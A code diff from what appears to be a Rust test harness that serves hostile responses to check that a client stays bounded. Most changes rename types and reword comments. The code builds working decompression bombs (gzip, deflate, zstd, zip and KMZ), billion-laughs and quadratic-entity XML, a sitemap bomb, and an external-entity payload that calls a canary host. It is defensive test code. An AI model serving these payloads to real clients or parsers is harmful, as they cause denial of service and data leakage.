@@ -1,8 +1,8 @@
-//! Small answers that grow: compressed zeros, archives, entities.
+//! Decompression bombs: compressed zeros, archives, entities.
 
 use super::{CANARY, CaseForm, case, common, harmless, repeat, send, unbounded};
-use crate::file::{Entry, Method, SparseFile, crc_with_zeros, zip, zip_of_packed};
-use crate::reply::{Act, Body, Reply};
+use crate::file::{SparseFile, ZipMember, ZipMethod, crc_with_zeros, write_zip, zip_of_packed};
+use crate::reply::{ReplyAct, ReplyBody, SiteReply};
 use crate::sitemap::gzip;
 use bytes::Bytes;
 use flate2::{Compression, write::DeflateEncoder};
@@ -38,31 +38,31 @@ pub(super) static CASES: &[CaseForm] = &[
     case("zip-endless", "/endless.zip", "bounded", |_, _| {
         unbounded("application/zip", "", vec![send("PK\x03\x04"), repeat("\0\0\0\0\0\0\0\0", u64::MAX)])
     }),
-    common(case("billion-laughs", "/laughs.xml", "bounded", |_, _| Reply::xml(laughs()))),
+    common(case("billion-laughs", "/laughs.xml", "bounded", |_, _| SiteReply::xml(laughs()))),
     case("billion-laughs-wms", "/wms?SERVICE=WMS&REQUEST=GetCapabilities", "bounded", |_, _| {
-        Reply::xml(laughs().replace("lolz", "WMT_MS_Capabilities"))
+        SiteReply::xml(laughs().replace("lolz", "WMT_MS_Capabilities"))
     }),
     case("quadratic-entity", "/quadratic.xml", "bounded", |_, _| {
         let mut out =
             format!("<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY a \"{}\">]>\n<r>", "a".repeat(100_000));
         out.push_str(&"&a;".repeat(50_000));
         out.push_str("</r>\n");
-        Reply::xml(out)
+        SiteReply::xml(out)
     }),
     common(case("external-entity", "/wms?SERVICE=WMS&REQUEST=GetCapabilities", "no-canary", |_, _| {
-        Reply::xml(format!(
+        SiteReply::xml(format!(
             "<?xml version=\"1.0\"?>\n<!DOCTYPE WMT_MS_Capabilities SYSTEM \"http://{CANARY}/wms.dtd\" [\n<!ENTITY % p SYSTEM \"http://{CANARY}/p.ent\">\n%p;\n<!ENTITY x SYSTEM \"http://{CANARY}/x.txt\">\n]>\n<WMT_MS_Capabilities version=\"1.1.1\"><Service><Name>OGC:WMS</Name><Title>&x;</Title></Service><Capability><Layer><Name>a</Name><Title>&x;</Title></Layer></Capability></WMT_MS_Capabilities>\n"
         ))
     })),
     CaseForm {
         in_robots: true,
         ..case("sitemap-bomb", "/", "bounded", |request, _| match request.path() {
-            "/robots.txt" => Reply::new(
+            "/robots.txt" => SiteReply::new(
                 200,
                 "text/plain",
                 "User-agent: *\nDisallow:\nSitemap: http://sitemap-bomb.hostile.test/sitemap.xml.gz\n",
             ),
-            "/sitemap.xml.gz" => Reply::new(200, "application/gzip", gzip_bytes(BOMB)),
+            "/sitemap.xml.gz" => SiteReply::new(200, "application/gzip", gzip_bytes(BOMB)),
             _ => harmless(),
         })
     },
@@ -82,7 +82,7 @@ pub(super) static CASES: &[CaseForm] = &[
             );
         }
         out.push_str("</sitemapindex>\n");
-        Reply::xml(out)
+        SiteReply::xml(out)
     })),
     CaseForm {
         in_robots: true,
@@ -99,26 +99,27 @@ pub(super) static CASES: &[CaseForm] = &[
     },
 ];
 
-fn encoded(encoding: &str, acts: Vec<Act>) -> Reply {
+fn encoded(encoding: &str, acts: Vec<ReplyAct>) -> SiteReply {
     unbounded("text/html", &format!("Content-Encoding: {encoding}\r\n"), acts)
 }
 
-fn archive(file: &Arc<SparseFile>) -> Reply {
-    let mut reply = Reply::new(200, "application/zip", "");
-    reply.body = Body::File { file: Arc::clone(file), ranges: true };
+fn archive(file: &Arc<SparseFile>) -> SiteReply {
+    let mut reply = SiteReply::new(200, "application/zip", "");
+    reply.body = ReplyBody::File { file: Arc::clone(file), ranges: true };
     reply
 }
 
-/// A deflate block of zeros, ending on a byte and referring to nothing before it: it may be repeated.
+/// A deflate block of zeros that ends on a byte boundary and has no back references, so it can be
+/// repeated.
 static ZERO_BLOCK: LazyLock<Bytes> = LazyLock::new(|| Bytes::from(flushed(&vec![0; BLOCK as usize])));
 static KMZ_BOMB: LazyLock<Arc<SparseFile>> =
     LazyLock::new(|| Arc::new(zip_of_packed("doc.kml", &packed(BOMB), 0, BOMB)));
 static KMZ_LIAR: LazyLock<Arc<SparseFile>> =
     LazyLock::new(|| Arc::new(zip_of_packed("doc.kml", &packed(BOMB), 0, 4000)));
 static MANY_ENTRIES: LazyLock<Arc<SparseFile>> = LazyLock::new(|| {
-    let entries: Vec<Entry> =
-        (0..60_000).map(|n| Entry::new(format!("d/{n}.txt"), Vec::new(), Method::Stored)).collect();
-    Arc::new(zip(&entries, ""))
+    let entries: Vec<ZipMember> =
+        (0..60_000).map(|n| ZipMember::new(format!("d/{n}.txt"), Vec::new(), ZipMethod::Stored)).collect();
+    Arc::new(write_zip(&entries, ""))
 });
 
 fn flushed(bytes: &[u8]) -> Vec<u8> {
@@ -129,7 +130,7 @@ fn flushed(bytes: &[u8]) -> Vec<u8> {
     encoder.get_ref().clone()
 }
 
-/// A final, empty block.
+/// The final, empty deflate block.
 const LAST_BLOCK: &[u8] = b"\x03\x00";
 const GZIP_HEAD: &[u8] = b"\x1f\x8b\x08\0\0\0\0\0\0\x03";
 
@@ -137,10 +138,10 @@ fn gzip_tail(size: u64) -> Vec<u8> {
     [&crc_with_zeros(b"", size).to_le_bytes()[..], &(size as u32).to_le_bytes()].concat()
 }
 
-fn gzip_acts(size: u64) -> Vec<Act> {
+fn gzip_acts(size: u64) -> Vec<ReplyAct> {
     vec![
         send(GZIP_HEAD),
-        Act::Repeat(ZERO_BLOCK.clone(), size / BLOCK),
+        ReplyAct::Repeat(ZERO_BLOCK.clone(), size / BLOCK),
         send(LAST_BLOCK),
         send(gzip_tail(size)),
     ]
@@ -150,19 +151,20 @@ fn gzip_bytes(size: u64) -> Vec<u8> {
     [GZIP_HEAD, &ZERO_BLOCK.repeat((size / BLOCK) as usize), LAST_BLOCK, &gzip_tail(size)].concat()
 }
 
-/// `deflate` is zlib in HTTP; the checksum of zeros is simple.
-fn deflate_acts(size: u64) -> Vec<Act> {
+/// In HTTP, `deflate` means zlib; the checksum of zeros is easy to compute.
+fn deflate_acts(size: u64) -> Vec<ReplyAct> {
+    // Adler-32 of zeros: the low word stays 1, the high word counts the bytes.
     let adler = (((size % 65_521) << 16) | 1) as u32;
     vec![
         send(&b"\x78\x9c"[..]),
-        Act::Repeat(ZERO_BLOCK.clone(), size / BLOCK),
+        ReplyAct::Repeat(ZERO_BLOCK.clone(), size / BLOCK),
         send(LAST_BLOCK),
         send(adler.to_be_bytes().to_vec()),
     ]
 }
 
-/// A Zstandard frame of run-length blocks, 128 KiB each.
-fn zstd_acts(size: u64) -> Vec<Act> {
+/// Returns a Zstandard frame of run-length blocks, 128 KiB each.
+fn zstd_acts(size: u64) -> Vec<ReplyAct> {
     const RUN: u64 = 128 * 1024;
     let block = |last: u32| {
         let header = ((RUN as u32) << 3 | 1 << 1 | last).to_le_bytes();
@@ -171,12 +173,12 @@ fn zstd_acts(size: u64) -> Vec<Act> {
     let blocks = size / RUN - 1;
     vec![
         send(&b"\x28\xB5\x2F\xFD\x00\x58"[..]),
-        Act::Repeat(Bytes::from(block(0).repeat(64)), blocks / 64),
+        ReplyAct::Repeat(Bytes::from(block(0).repeat(64)), blocks / 64),
         send(block(1)),
     ]
 }
 
-/// KML that starts well and goes on with zeros, deflated.
+/// Returns deflated KML that starts valid and continues with zeros.
 fn packed(size: u64) -> Vec<u8> {
     let start = flushed(b"<?xml version=\"1.0\"?>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Document><name>bomb</name>\n");
     [&start[..], &ZERO_BLOCK.repeat((size / BLOCK) as usize), LAST_BLOCK].concat()
@@ -199,13 +201,13 @@ mod tests {
     use super::*;
     use std::io::Read as _;
 
-    fn join(acts: &[Act]) -> Vec<u8> {
+    fn join(acts: &[ReplyAct]) -> Vec<u8> {
         let mut out = Vec::new();
         for act in acts {
             match act {
-                Act::Send(bytes) => out.extend_from_slice(bytes),
-                Act::Repeat(bytes, times) => out.extend(bytes.repeat(*times as usize)),
-                Act::Made(..) | Act::Drip(..) | Act::Pause(_) => {}
+                ReplyAct::Send(bytes) => out.extend_from_slice(bytes),
+                ReplyAct::Repeat(bytes, times) => out.extend(bytes.repeat(*times as usize)),
+                ReplyAct::Made(..) | ReplyAct::Drip(..) | ReplyAct::Pause(_) => {}
             }
         }
         out
